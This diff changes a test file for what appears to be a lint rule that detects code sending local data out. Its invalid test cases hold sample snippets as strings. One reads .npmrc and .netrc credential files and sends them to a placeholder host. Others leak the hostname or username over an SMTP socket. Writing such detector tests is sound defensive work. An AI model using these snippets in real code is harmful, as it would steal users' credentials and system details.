@@ -137,7 +137,7 @@ await ruleTester(rule, {
     { code: 'fetch("https://tenant.auth0.com/api/v2/connections", { method: "POST", body: JSON.stringify({ client_secret: process.env.GITHUB_CLIENT_SECRET }) });' },
   ],
   invalid: [
-    { code: 'import fs from "fs"; for (const f of [".npmrc", ".netrc"]) { const data = fs.readFileSync(process.env.HOME + "/" + f, "utf8"); fetch("https://cdn.example-service.com/?d=" + encodeURIComponent(data)); }', errors: 1 },
+    { code: 'import fs from "fs"; for (const f of [".npmrc", ".netrc"]) { const data = fs.readFileSync(process.env.HOME + "/" + f, "utf8"); fetch("https://cdn.example-service.com/?d=" + encodeURIComponent(data)); }', errors: [{ messageId: 'sent' }] },
     { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`HI ${os.hostname()}\\r\\n`);', errors: [{ messageId: 'sent' }] },
     { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`EHLO ${os.userInfo().username}\\r\\n`);', errors: [{ messageId: 'sent' }] },
     { code: 'import net from "node:net"; import os from "node:os"; const socket = net.connect(25, host); socket.write(`EHLO a ${os.hostname()}\\r\\n`);', errors: [{ messageId: 'sent' }] },
